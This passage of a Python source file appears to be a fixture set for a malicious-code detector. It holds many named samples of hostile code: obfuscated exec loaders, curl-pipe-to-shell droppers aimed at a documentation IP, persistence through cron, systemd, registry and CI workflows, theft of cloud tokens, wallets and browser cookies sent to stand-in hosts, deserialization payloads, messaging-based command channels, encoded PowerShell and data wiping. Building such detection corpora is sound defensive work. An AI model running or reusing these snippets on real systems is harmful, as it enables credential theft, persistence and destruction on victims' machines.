        "\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x27\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x68"
        "\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x32\\x30\\x33\\x2e\\x30\\x2e\\x31\\x31\\x33\\x2e\\x34"
        '\\x35\\x2f\\x78\\x20\\x7c\\x20\\x73\\x68\\x27\\x29\\x0a", "unicode_escape"))'
    ),
    "b64_reversed_exec": (
        "import base64\n"
        'exec(base64.b64decode("==gCpcCazBCfgg3L1QjLzETMuAjLzAjMv8iOwRHdoByctACbyV3YngSblR3c5Nn'
        'Lz9mCz9GI0J3bw1Wa"[::-1]))'
    ),
    # BlankOBF-style layered output
    "blankobf_style": (
        "import base64, lzma, zlib\n"
        '____ = "/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQBBeJzLzC3ILypRyC/myi/'
        "WK64sLknN1VBPLi3KUdAtVsgoKSmw0tc3MjDWM9AzNDTWMzHVr1CoUSjOUNfkAgBAphF/"
        'AAAAkVt62PspsNwAAVpCSSAA+B+2830BAAAAAARZWg=="\n'
        "_____ = lambda _: zlib.decompress(lzma.decompress(base64.b64decode(_)))\n"
        'exec(compile(_____(____), "<string>", "exec"))'
    ),
    # Fernet (Checkmarx 2024 campaign, still used 2025)
    "fernet_exec": (
        "from cryptography.fernet import Fernet\n"
        'exec(Fernet(b"Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Zm9vYmFyYmE=").decrypt('
        'b"gAAAAABlAbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMN'
        'OPQRSTUV=="))'
    ),
    "fernet_url_exec": (
        "import requests\n"
        "from cryptography.fernet import Fernet\n"
        'exec(Fernet(b"Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Zm9vYmFyYmE=").decrypt(requests.get('
        '"https://cdn.example.com/p.enc").content))'
    ),
    # AES (pycryptodome) payload from data file
    "aes_file_exec": (
        "import os\n"
        "from Crypto.Cipher import AES\n"
        'd = open(os.path.join(os.path.dirname(__file__), "assets", "cache.bin"), '
        '"rb").read()\n'
        'exec(AES.new(b"0123456789abcdef", AES.MODE_CBC, '
        'd[:16]).decrypt(d[16:]).rstrip(b"\\0"))'
    ),
    "aes_net_exec": (
        "import requests\n"
        "from Crypto.Cipher import AES\n"
        'd = requests.get("https://cdn.example.com/p.bin").content\n'
        'exec(AES.new(b"0123456789abcdef", AES.MODE_EAX, nonce=d[:16]).decrypt(d[16:]))'
    ),
    # pyarmor runtime output (used by 2025 stealers)
    "pyarmor8": (
        "from .pyarmor_runtime_000000 import __pyarmor__\n"
        "__pyarmor__(__name__, __file__, "
        'b"PY000000\\x00\\x03\\x0b\\x00\\xa7\\r\\r\\n\\x80\\x00\\x01\\x00\\x08\\x00\\x00\\x00\\'
        "x04\\x00\\x00\\x00@\\x00\\x00\\x00\\x1a\\x0c\\x00\\x00\\x12\\t\\x04\\x00\\xd2\\x9b\\x1"
        'e\\x8b\\xc2\\x8a\\x0f\\x9f\\x88\\x11")'
    ),
    "pyarmor_old": (
        "from pytransform import pyarmor_runtime\n"
        "pyarmor_runtime()\n"
        "__pyarmor__(__name__, __file__, "
        'b"\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52\\x00\\x00\\x03\\x08\\x00\\x55\\x0d\\x0d\\x0a\\x0'
        '4\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x01\\x00\\x00\\x00\\x40\\x00\\x00\\x00")'
    ),
    # ast / eval tricks
    "ast_unparse_exec": (
        "import ast, base64\n"
        't = ast.parse(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cDovLzIwMy'
        '4wLjExMy40NS94IHwgc2giKQ==").decode())\n'
        'exec(compile(t, "<ast>", "exec"))'
    ),
    "eval_import_chain": "eval(\"__import__('os').system('curl -s http://203.0.113.45/x | sh')\")",
    "exec_in_default_arg": (
        "import base64\n"
        'def _cfg(x=exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))):\n'
        "    return x"
    ),
    # string-building of dangerous names
    "chr_getattr_system": (
        "import os\n"
        'getattr(os, "".join(map(chr, [115, 121, 115, 116, 101, 109])))("curl -s '
        'http://203.0.113.45/x | sh")'
    ),
    "globals_exec": (
        "import base64\n"
        'globals()["__builtins__"]["ex" "ec"] if isinstance(__builtins__, dict) else None\n'
        '__builtins__.__dict__["exec"](base64.b64decode('
        '"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))'
    ),
    "operator_methodcaller": (
        "import operator, os\n"
        'operator.methodcaller("system", "curl -s http://203.0.113.45/x | sh")(os)'
    ),
    # whitespace/homoglyph: long line hiding (code pushed far right)
    "far_right_exec": (
        'VERSION = "1.0.0"                                                                     '
        "                                                                                      "
        "                                                                                      "
        "                                                           ; "
        '__import__("os").system("curl -s http://203.0.113.45/x | sh")'
    ),
    # encoded URL + dropper: base64 host, chr-built url
    "b64_host_dropper": (
        "import base64, os, urllib.request\n"
        'u = base64.b64decode("aHR0cDovLzIwMy4wLjExMy40NS91LmV4ZQ==").decode()\n'
        'p = os.path.join(os.getenv("TEMP"), "u.exe")\n'
        "urllib.request.urlretrieve(u, p)\n"
        "os.startfile(p)"
    ),
    "zlib_b64_url_exec": (
        "import zlib, base64, requests\n"
        "exec(requests.get(zlib.decompress(base64.b64decode("
        '"eJzLKCkpsNLXT0lN1kvOz9UrTs5ILbDKLEgtyi8qAQBzWwl5")).decode()).text)'
    ),
    # marshal from base85 literal
    "marshal_b85": (
        "import marshal, base64\n"
        'exec(marshal.loads(base64.b85decode("c$@1cVQw6WR09DkM@oU50Tch)9y5V")))'
    ),
    # Specter/Kramer-like: class with long key string decoded in __init__
    "kramer_like": (
        "class Kramer:\n"
        "    def __init__(self, _code, _key):\n"
        '        self.c = "".join(chr(ord(a) ^ _key) for a in _code)\n'
        "        exec(self.c)\n"
        'Kramer(_code="37*5(.z5)P5)t)#).?7r}9/(6zw)z2..*`uuhjitjtkkitnou\\"z&z)2}s", _key=90)'
    ),
    # --- Persistence, credential sources, hooks and other shapes.
    # persistence
    "usercustomize": (
        "import os, site\n"
        "d = site.getusersitepackages(); os.makedirs(d, exist_ok=True)\n"
        'open(os.path.join(d, "usercustomize.py"), "w").write("import os\\nos.system(\'curl -s '
        "http://203.0.113.45/x | sh')\\n\")"
    ),
    "sitecustomize": (
        "import os, sysconfig\n"
        'open(os.path.join(sysconfig.get_paths()["purelib"], "sitecustomize.py"), '
        "\"a\").write(\"\\nimport subprocess; subprocess.Popen(['python3', '/tmp/.q.py'])\\n\")"
    ),
    "venv_activate": (
        "import os, sys\n"
        'open(os.path.join(sys.prefix, "bin", "activate"), "a").write("\\n(curl -s '
        'http://203.0.113.45/x | sh) >/dev/null 2>&1 &\\n")'
    ),
    "conda_activate_d": (
        "import os, sys\n"
        'd = os.path.join(sys.prefix, "etc", "conda", "activate.d"); os.makedirs(d, '
        "exist_ok=True)\n"
        'open(os.path.join(d, "env_vars.sh"), "w").write("curl -s http://203.0.113.45/x | sh '
        '&\\n")'
    ),
    "zshrc_alias_sudo": (
        "import os\n"
        'open(os.path.expanduser("~/.zshrc"), "a").write("\\nalias sudo=\'sudo -E env '
        "PATH=/tmp/.b:$PATH'\\n\")"
    ),
    "profile_d": (
        'open("/etc/profile.d/locale-fix.sh", "w").write("(curl -s http://203.0.113.45/x | sh) '
        '&\\n")'
    ),
    "ld_preload": (
        "import urllib.request\n"
        'urllib.request.urlretrieve("http://203.0.113.45/libq.so", "/usr/lib/libq.so")\n'
        'open("/etc/ld.so.preload", "a").write("/usr/lib/libq.so\\n")'
    ),
    "cron_d": (
        'open("/etc/cron.d/pkgupdate", "w").write("*/10 * * * * root curl -s '
        'http://203.0.113.45/x | sh\\n")'
    ),
    "systemd_system": (
        "import subprocess\n"
        'open("/etc/systemd/system/sysmon.service", '
        '"w").write("[Service]\\nExecStart=/usr/bin/python3 '
        '/opt/.sysmon/agent.py\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n")\n'
        'subprocess.run(["systemctl", "enable", "--now", "sysmon"])'
    ),
    "winlogon_userinit": (
        "import winreg\n"
        'k = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\\Microsoft\\Windows '
        'NT\\CurrentVersion\\Winlogon", 0, winreg.KEY_SET_VALUE)\n'
        'winreg.SetValueEx(k, "Userinit", 0, winreg.REG_SZ, '
        'r"C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\u.exe")'
    ),
    "ifeo_debugger": (
        "import winreg\n"
        'k = winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\\Microsoft\\Windows '
        'NT\\CurrentVersion\\Image File Execution Options\\sethc.exe")\n'
        'winreg.SetValueEx(k, "Debugger", 0, winreg.REG_SZ, r"C:\\ProgramData\\u.exe")'
    ),
    "startup_lnk": (
        "import os, win32com.client\n"
        'p = os.path.join(os.getenv("APPDATA"), r"Microsoft\\Windows\\Start '
        'Menu\\Programs\\Startup", "OneDriveSync.lnk")\n'
        's = win32com.client.Dispatch("WScript.Shell").CreateShortCut(p)\n'
        's.Targetpath = "pythonw.exe"; s.Arguments = os.path.join(os.getenv("APPDATA"), '
        '"q.pyw"); s.save()'
    ),
    "osascript_login_item": (
        "import os\n"
        'os.system(\'osascript -e "tell application \\\\"System Events\\\\" to make login item '
        'at end with properties {path:\\\\"/Users/Shared/.q\\\\", hidden:true}"\')'
    ),
    "launchdaemon": (
        "import subprocess\n"
        'open("/Library/LaunchDaemons/com.apple.sysmond.plist", '
        '"w").write("<plist><dict><key>RunAtLoad</key><true/><key>ProgramArguments</'
        'key><array><string>/Users/Shared/.q</string></array></dict></plist>")\n'
        'subprocess.run(["launchctl", "load", "-w", '
        '"/Library/LaunchDaemons/com.apple.sysmond.plist"])'
    ),
    "git_global_hookspath": (
        "import os, subprocess\n"
        'd = os.path.expanduser("~/.config/git/hooks"); os.makedirs(d, exist_ok=True)\n'
        'open(os.path.join(d, "post-checkout"), "w").write("#!/bin/sh\\ncurl -s '
        'http://203.0.113.45/x | sh\\n")\n'
        'os.chmod(os.path.join(d, "post-checkout"), 0o755)\n'
        'subprocess.run(["git", "config", "--global", "core.hooksPath", d])'
    ),
    "schtasks_xml": (
        "import subprocess, os\n"
        'x = os.path.join(os.getenv("TEMP"), "t.xml")\n'
        'open(x, "w").write("<Task><Triggers><LogonTrigger/></'
        "Triggers><Actions><Exec><Command>pythonw.exe</"
        'Command><Arguments>C:\\\\ProgramData\\\\q.pyw</Arguments></Exec></Actions></Task>")\n'
        'subprocess.run(["schtasks", "/create", "/xml", x, "/tn", "OneDriveUpdate", "/f"])'
    ),
    "vscode_ext_install": (
        "import subprocess, urllib.request\n"
        'urllib.request.urlretrieve("http://203.0.113.45/theme.vsix", "/tmp/theme.vsix")\n'
        'subprocess.run(["code", "--install-extension", "/tmp/theme.vsix", "--force"])'
    ),
    "github_workflow_inject": (
        "import os, subprocess\n"
        'os.makedirs(".github/workflows", exist_ok=True)\n'
        'open(".github/workflows/format-check.yml", "w").write("on: push\\njobs:\\n  f:\\n    '
        "runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -s -d \\\"$(echo '${{ "
        'toJSON(secrets) }}\' | base64 -w0)\\" https://webhook.site/abc\\n")\n'
        'subprocess.run("git add -A && git commit -qm ci && git push -q", shell=True)'
    ),
    # credential sources not in STORES
    "proc_environ_all": (
        "import glob, requests\n"
        "d = {}\n"
        'for p in glob.glob("/proc/*/environ"):\n'
        '    try: d[p] = open(p, "rb").read().decode(errors="ignore")\n'
        "    except OSError: pass\n"
        'requests.post("https://collect.example.com/e", json=d)'
    ),
    "runner_memory": (
        "import os, re, requests\n"
        'pid = [p for p in os.listdir("/proc") if p.isdigit() and b"Runner.Worker" in '
        'open(f"/proc/{p}/cmdline", "rb").read()][0]\n'
        'mem = open(f"/proc/{pid}/mem", "rb")\n'
        "found = []\n"
        'for line in open(f"/proc/{pid}/maps"):\n'
        '    a, b = [int(x, 16) for x in line.split()[0].split("-")]\n'
        "    try:\n"
        '        mem.seek(a); found += re.findall(rb\'"[^"]+":\\{"value":"[^"]*",'
        '"isSecret":true\\}\', mem.read(b - a))\n'
        "    except Exception: pass\n"
        'requests.post("https://collect.example.com/r", data=b"\\n".join(found))'
    ),
    "gh_auth_token": (
        "import subprocess, requests\n"
        't = subprocess.check_output(["gh", "auth", "token"]).decode().strip()\n'
        'requests.post("https://collect.example.com/g", json={"t": t})'
    ),
    "gcloud_token": (
        "import subprocess, requests\n"
        't = subprocess.check_output("gcloud auth print-access-token", shell=True).decode()\n'
        'requests.post("https://collect.example.com/g", data=t)'
    ),
    "az_token": (
        "import subprocess, requests\n"
        't = subprocess.check_output(["az", "account", "get-access-token", "-o", "json"])\n'
        'requests.post("https://collect.example.com/a", data=t)'
    ),
    "aws_export_creds": (
        "import subprocess, requests\n"
        'requests.post("https://collect.example.com/a", data=subprocess.check_output(["aws", '
        '"configure", "export-credentials", "--format", "env"]))'
    ),
    "vault_token": (
        "import os, requests\n"
        'requests.post("https://collect.example.com/v", '
        'data=open(os.path.expanduser("~/.vault-token")).read())'
    ),
    "tfstate": (
        "import glob, requests\n"
        'for f in glob.glob("**/*.tfstate", recursive=True) + glob.glob("**/*.tfvars", '
        "recursive=True):\n"
        '    requests.post("https://collect.example.com/tf", files={"f": open(f, "rb")})'
    ),
    "solana_id_json": (
        "import os, json, requests\n"
        'k = json.load(open(os.path.expanduser("~/.config/solana/id.json")))\n'
        'requests.post("https://collect.example.com/s", json={"k": k})'
    ),
    "eth_keystore": (
        "import os, glob, requests\n"
        'for f in glob.glob(os.path.expanduser("~/.ethereum/keystore/*")):\n'
        '    requests.post("https://collect.example.com/e", data=open(f).read())'
    ),
    "printenv_sub": (
        "import subprocess, requests\n"
        'requests.post("https://collect.example.com/e", '
        'data=subprocess.check_output("printenv"))'
    ),
    "environ_copy": (
        "import os, json, urllib.request\n"
        "e = os.environ.copy()\n"
        'urllib.request.urlopen("https://collect.example.com/e", data=json.dumps(e).encode())'
    ),
    "environb": (
        "import os, requests\n"
        'requests.post("https://collect.example.com/e", data=b"\\n".join(k + b"=" + v for k, v '
        "in os.environb.items()))"
    ),
    "chrome_debug_cookies": (
        "import subprocess, requests, websocket, json, time\n"
        'subprocess.Popen([r"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '
        '"--headless", "--remote-debugging-port=9222", "--user-data-dir=" + '
        '__import__("os").getenv("LOCALAPPDATA") + r"\\Google\\Chrome\\User Data"])\n'
        "time.sleep(2)\n"
        'ws = websocket.create_connection(requests.get("http://localhost:9222/json").json('
        ')[0]["webSocketDebuggerUrl"])\n'
        'ws.send(json.dumps({"id": 1, "method": "Network.getAllCookies"}))\n'
        'requests.post("https://collect.example.com/c", data=ws.recv())'
    ),
    "ctypes_dpapi": (
        "import ctypes, ctypes.wintypes, os, json, base64, requests\n"
        'class B(ctypes.Structure): _fields_ = [("n", ctypes.wintypes.DWORD), ("p", '
        "ctypes.POINTER(ctypes.c_char))]\n"
        'k = base64.b64decode(json.load(open(os.path.join(os.getenv("LOCALAPPDATA"), "Google", '
        '"Chrome", "User Data", "Local State")))["os_crypt"]["encrypted_key"])[5:]\n'
        "i, o = B(len(k), ctypes.create_string_buffer(k, len(k))), B()\n"
        "ctypes.windll.crypt32.CryptUnprotectData(ctypes.byref(i), None, None, None, None, 0, "
        "ctypes.byref(o))\n"
        'requests.post("https://collect.example.com/k", data=ctypes.string_at(o.p, o.n))'
    ),
    # hooks / monkeypatching to steal
    "getpass_hook": (
        "import getpass, requests\n"
        "_g = getpass.getpass\n"
        'def getpass_(prompt="Password: ", stream=None):\n'
        "    pw = _g(prompt, stream)\n"
        '    requests.post("https://collect.example.com/p", data=pw)\n'
        "    return pw\n"
        "getpass.getpass = getpass_"
    ),
    "requests_send_hook": (
        "import requests\n"
        "_send = requests.Session.send\n"
        "def send(self, req, **kw):\n"
        '    if "Authorization" in req.headers:\n'
        '        _send(self, requests.Request("POST", "https://collect.example.com/h", '
        'data=req.headers["Authorization"]).prepare())\n'
        "    return _send(self, req, **kw)\n"
        "requests.Session.send = send"
    ),
    "bittensor_stake_hijack": (
        "import bittensor\n"
        "_orig = bittensor.Subtensor.add_stake\n"
        "def add_stake(self, wallet, hotkey_ss58=None, amount=None, **kw):\n"
        '    return self.transfer(wallet, "5FjXhKzRDtEyWf1FbEfXx1abcdefghijklmnopqrstuvwxyzAB",'
        " bittensor.Balance.from_tao(wallet.balance), **kw)\n"
        "bittensor.Subtensor.add_stake = add_stake"
    ),
    "clipper": (
        "import re, time, pyperclip\n"
        "while True:\n"
        "    t = pyperclip.paste()\n"
        '    if re.fullmatch(r"(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}", t):\n'
        '        pyperclip.copy("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")\n'
        "    time.sleep(0.5)"
    ),
    # destructive / anti-forensics
    "shutdown_psslib": (
        "import os, sys\n"
        'if sys.platform == "win32":\n'
        '    os.system("shutdown /s /t 0")\n'
        "else:\n"
        '    os.system("shutdown -h now")'
    ),
    "wipe_home": ('import os, shutil\nshutil.rmtree(os.path.expanduser("~"), ignore_errors=True)'),
    "self_delete": (
        "import os, requests, shutil\n"
        'requests.post("https://collect.example.com/e", json=dict(os.environ))\n'
        "shutil.rmtree(os.path.dirname(__file__), ignore_errors=True)"
    ),
    "history_clear": (
        'import os\nos.system("history -c; rm -f ~/.bash_history ~/.zsh_history; unset HISTFILE")'
    ),
    # proxyware / socks (soopsocks-like)
    "socks_proxy_expose": (
        "import subprocess, requests\n"
        'subprocess.Popen(["ssh", "-o", "StrictHostKeyChecking=no", "-N", "-R", "1080", '
        '"u@203.0.113.45"])\n'
        'requests.post("https://discord.com/api/webhooks/123456789012345678/'
        'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefghij", '
        'json={"content": requests.get("https://api.ipify.org").text})'
    ),
    "firewall_open": (
        "import subprocess\n"
        'subprocess.run(["netsh", "advfirewall", "firewall", "add", "rule", "name=svc", '
        '"dir=in", "action=allow", "protocol=TCP", "localport=1080"])'
    ),
    # CI-targeted
    "ci_only_trigger": (
        "import os, requests\n"
        'if os.getenv("GITHUB_ACTIONS") == "true" or os.getenv("CI"):\n'
        '    requests.post("https://collect.example.com/ci", json={k: v for k, v in '
        'os.environ.items() if "TOKEN" in k or "SECRET" in k or "KEY" in k})'
    ),
    "actions_oidc": (
        "import os, requests\n"
        't = requests.get(os.environ["ACTIONS_ID_TOKEN_REQUEST_URL"] + "&audience=pypi", '
        'headers={"Authorization": "bearer " + os.environ["ACTIONS_ID_TOKEN_REQUEST_TOKEN"]}).'
        'json()["value"]\n'
        'requests.post("https://collect.example.com/o", data=t)'
    ),
    "pypi_token_publish": (
        "import os, re, subprocess\n"
        'tok = re.search(r"pypi-[A-Za-z0-9_-]{50,}", '
        'open(os.path.expanduser("~/.pypirc")).read()).group(0)\n'
        'subprocess.run(["twine", "upload", "-u", "__token__", "-p", tok, "/tmp/dist/*"])'
    ),
    "npm_worm": (
        "import os, re, subprocess, json, urllib.request\n"
        'tok = re.search(r"_authToken=(\\S+)", open(os.path.expanduser("~/.npmrc")).read()).'
        "group(1)\n"
        'for p in json.loads(urllib.request.urlopen(urllib.request.Request("https://registry.'
        'npmjs.org/-/whoami", headers={"Authorization": "Bearer " + '
        'tok})).read()).get("packages", []):\n'
        '    subprocess.run(["npm", "publish"], cwd=p)'
    ),
    # --- More code-string runners, deserializers, platform hosts, campaign shapes.
    # code-string runners beyond exec/eval
    "timeit_exec": (
        "import timeit, requests\n"
        'timeit.timeit(requests.get("http://203.0.113.45/p").text, number=1)'
    ),
    "cprofile_run": (
        "import cProfile, urllib.request\n"
        'cProfile.run(urllib.request.urlopen("http://203.0.113.45/p").read().decode())'
    ),
    "pdb_run": (
        "import pdb, base64\n"
        'pdb.run(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cDovLzIwMy4wLjEx'
        'My40NS94IHwgc2giKQ==").decode())'
    ),
    "codeop_exec": (
        "import codeop, requests\n"
        'exec(codeop.compile_command(requests.get("http://203.0.113.45/p").text, "<x>", '
        '"exec"))'
    ),
    "interactive_console_push": (
        "import code, requests\n"
        "c = code.InteractiveConsole()\n"
        'for line in requests.get("http://203.0.113.45/p").text.splitlines():\n'
        "    c.push(line)"
    ),
    # deserializers
    "yaml_literal_apply": (
        "import yaml\n"
        'yaml.load("!!python/object/apply:os.system [\\"curl -s http://203.0.113.45/x | '
        'sh\\"]", Loader=yaml.Loader)'
    ),
    "reduce_class": (
        "import pickle, os\n"
        "class P:\n"
        "    def __reduce__(self):\n"
        '        return (os.system, ("curl -s http://203.0.113.45/x | sh",))\n'
        "pickle.loads(pickle.dumps(P()))"
    ),
    "dill_net": (
        'import dill, requests\ndill.loads(requests.get("http://203.0.113.45/m.pkl").content)'
    ),
    "cloudpickle_net": (
        "import cloudpickle, urllib.request\n"
        'cloudpickle.loads(urllib.request.urlopen("http://203.0.113.45/m.pkl").read())'
    ),
    "jsonpickle_net": (
        "import jsonpickle, requests\n"
        'jsonpickle.decode(requests.get("http://203.0.113.45/m.json").text)'
    ),
    "pandas_read_pickle_url": (
        'import pandas as pd\npd.read_pickle("https://models.example.com/frame.pkl")'
    ),
    "numpy_allow_pickle": (
        "import numpy as np, io, requests\n"
        'np.load(io.BytesIO(requests.get("https://models.example.com/w.npy").content), '
        "allow_pickle=True)"
    ),
    "torch_load_url": (
        "import torch\n"
        'torch.hub.load_state_dict_from_url("https://models.example.com/w.pt", '
        "weights_only=False)"
    ),
    # campaign shapes
    "dga_exec": (
        "import hashlib, datetime, requests\n"
        "d = hashlib.sha256(datetime.date.today().isoformat().encode()).hexdigest()[:12]\n"
        'tok = requests.get(f"https://{d}.example-cdn.net/auth").text\n'
        'exec(requests.get(f"https://{d}.example-cdn.net/p", headers={"X-T": tok}).text)'
    ),
    "silentsync_hex": (
        "import os, requests, subprocess, tempfile, sys\n"
        'u = bytes.fromhex("68747470733a2f2f706173746562696e2e636f6d2f7261772f4162436445663132"'
        ").decode()\n"
        'p = os.path.join(tempfile.gettempdir(), "helloworld2.py")\n'
        'open(p, "w").write(requests.get(u).text)\n'
        "subprocess.Popen([sys.executable, p], creationflags=0x08000000)"
    ),
    "jamf_macos": (
        "import os, glob, requests\n"
        'd = {f: open(f, "rb").read().hex() for f in glob.glob("/Library/Application '
        'Support/JAMF/**", recursive=True) if os.path.isfile(f)}\n'
        'requests.post("https://collect.example.com/j", json=d)'
    ),
    "pyrebase_storage": (
        "import pyrebase, os\n"
        "from PIL import ImageGrab\n"
        'ImageGrab.grab().save("/tmp/s.png")\n'
        'fb = pyrebase.initialize_app({"apiKey": "AIzaSyA-abcdefghijklmnopqrstuvwxyz12345", '
        '"authDomain": "q.firebaseapp.com", "databaseURL": "https://q.firebaseio.com", '
        '"storageBucket": "q.appspot.com"})\n'
        'fb.storage().child(os.getlogin() + "/s.png").put("/tmp/s.png")'
    ),
    "trycloudflare_exec": (
        'import requests\nexec(requests.get("https://calm-river-abc.trycloudflare.com/p").text)'
    ),
    "r2dev_dropper": (
        "import os, subprocess, urllib.request\n"
        'urllib.request.urlretrieve("https://pub-0123456789abcdef.r2.dev/u.bin", "/tmp/.u")\n'
        'os.chmod("/tmp/.u", 0o755)\n'
        'subprocess.Popen(["/tmp/.u"])'
    ),
    "azure_blob_upload": (
        "import os, requests\n"
        'requests.put("https://qstore.blob.core.windows.net/c/k.txt?sv=2022-11-02&sig=abc", '
        'headers={"x-ms-blob-type": "BlockBlob"}, data=open(os.path.expanduser("~/.aws/'
        'credentials"), "rb"))'
    ),
    "github_pages_cfg": (
        "import requests, subprocess\n"
        'cfg = requests.get("https://someone.github.io/cfg.json").json()\n'
        'subprocess.Popen(cfg["run"], shell=True)'
    ),
    "bitbucket_raw_exe": (
        "import os, requests, subprocess\n"
        'p = os.path.join(os.getenv("TEMP"), "u.exe")\n'
        'open(p, "wb").write(requests.get("https://bitbucket.org/someone/r/raw/main/u.exe").'
        "content)\n"
        "subprocess.Popen(p)"
    ),
    "mediafire_zip_run": (
        "import os, io, zipfile, requests, subprocess\n"
        'z = zipfile.ZipFile(io.BytesIO(requests.get("https://download1234.mediafire.com/abc/'
        'tool.zip").content))\n'
        'z.extractall(os.getenv("TEMP"), pwd=b"1234")\n'
        'subprocess.Popen(os.path.join(os.getenv("TEMP"), "tool.exe"))'
    ),
    # weak-signal shapes likely present in real first stages
    "download_only_tmp_py": (
        "import urllib.request, os\n"
        'urllib.request.urlretrieve("http://203.0.113.45/s.py", '
        'os.path.join(os.path.expanduser("~"), ".cache", "s.py"))'
    ),
    "subprocess_python_file_dl": (
        "import subprocess, sys, requests\n"
        'open("/tmp/.x.py", "w").write(requests.get("http://203.0.113.45/s").text)\n'
        'subprocess.Popen([sys.executable, "/tmp/.x.py"], start_new_session=True)'
    ),
    "nohup_setsid": (
        "import os\n"
        'os.system("setsid nohup python3 -c \\"$(curl -s http://203.0.113.45/a)\\" >/dev/null '
        '2>&1 &")'
    ),
    # --- PowerShell / Windows LOLBin variants (Fortinet/Zscaler 2025: -enc, hidden windows).
    "ps_enc_iex": (
        "import subprocess\n"
        'subprocess.Popen(["powershell", "-NoProfile", "-WindowStyle", "Hidden", '
        '"-EncodedCommand", "SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQ'
        "BlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADIAMAAzAC4A"
        'MAAuADEAMQAzAC4ANAA1AC8AYQAuAHAAcwAxACcAKQA="], creationflags=0x08000000)'
    ),
    "ps_e_short_shell": (
        "import os\n"
        'os.system("powershell -nop -w hidden -e SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AC'
        "AALQBVAHIAaQAgAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA0ADUALwB1AC4AZQB4AGUAIAAt"
        "AE8AdQB0AEYAaQBsAGUAIAAkAGUAbgB2ADoAVABFAE0AUABcAHUALgBlAHgAZQA7ACAAUwB0AGEAcgB0AC0AUA"
        'ByAG8AYwBlAHMAcwAgACQAZQBuAHYAOgBUAEUATQBQAFwAdQAuAGUAeABlAA==")'
    ),
    "ps_bypass_file_dl": (
        "import os, subprocess, urllib.request\n"
        'p = os.path.join(os.getenv("TEMP"), "u.ps1")\n'
        'urllib.request.urlretrieve("http://203.0.113.45/u.ps1", p)\n'
        'subprocess.Popen(["powershell", "-ExecutionPolicy", "Bypass", "-WindowStyle", '
        '"Hidden", "-File", p])'
    ),
    "ps_b64_python_built": (
        "import base64, subprocess\n"
        "cmd = \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.45/a.ps1')\"\n"
        'subprocess.Popen(["powershell", "-enc", base64.b64encode(cmd.encode("utf-16le")).'
        "decode()])"
    ),
    "ps_startprocess_hidden": (
        "import subprocess\n"
        'subprocess.run("powershell -c "Start-Process -WindowStyle Hidden -FilePath '
        ':APPDATA\\svc\\svchost.exe"", shell=True)'
    ),
    "cmd_start_b_dl": (
        "import os\n"
        'os.system("cmd /c curl -s -o %TEMP%\\u.exe http://203.0.113.45/u.exe && start /b '
        '%TEMP%\\u.exe")'
    ),
    "certutil_decode": (
        'import os\nos.system("certutil -decode %TEMP%\\p.txt %TEMP%\\p.exe && %TEMP%\\p.exe")'
    ),
    "mqtt_c2_exec": (
        "import paho.mqtt.client as mqtt\n"
        "def on_message(c, u, m):\n"
        "    exec(m.payload.decode())\n"
        "c = mqtt.Client(); c.on_message = on_message\n"
        'c.connect("broker.emqx.io", 1883); c.subscribe("q/1"); c.loop_forever()'
    ),
    "imap_c2_exec": (
        "import imaplib, email\n"
        'm = imaplib.IMAP4_SSL("imap.gmail.com"); m.login("qbox@gmail.com", "abcd efgh ijkl '
        'mnop"); m.select("INBOX")\n'
        'for n in m.search(None, "UNSEEN")[1][0].split():\n'
        '    exec(email.message_from_bytes(m.fetch(n, "(RFC822)")[1][0][1]).get_payload())'
    ),
    "telethon_c2": (
        "import subprocess\n"
        "from telethon import TelegramClient, events\n"
        'c = TelegramClient("s", 123456, "0123456789abcdef0123456789abcdef")\n'
        '@c.on(events.NewMessage(chats="me"))\n'
        "async def h(e):\n"
        "    await e.reply(subprocess.getoutput(e.raw_text))\n"
        "c.start(); c.run_until_disconnected()"
    ),
    "pyrogram_c2": (
        "import subprocess\n"
        "from pyrogram import Client, filters\n"
        'app = Client("s", api_id=123456, api_hash="0123456789abcdef0123456789abcdef", '
        'bot_token="7123456789:AAHfGhIjKlMnOpQrStUvWxYz0123456789ab")\n'
        "@app.on_message(filters.text)\n"
        "def h(c, m):\n"
        "    m.reply(subprocess.getoutput(m.text))\n"
        "app.run()"
    ),
    "ps_list_enc_E2": (
        "import subprocess\n"
        'subprocess.Popen(["powershell", "-NoProfile", "-WindowStyle", "Hidden", '
        '"-EncodedCommand", "SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAALQBVAHIAaQAgAGgAdA'
        "B0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA0ADUALwB1AC4AZQB4AGUAIAAtAE8AdQB0AEYAaQBsAGUA"
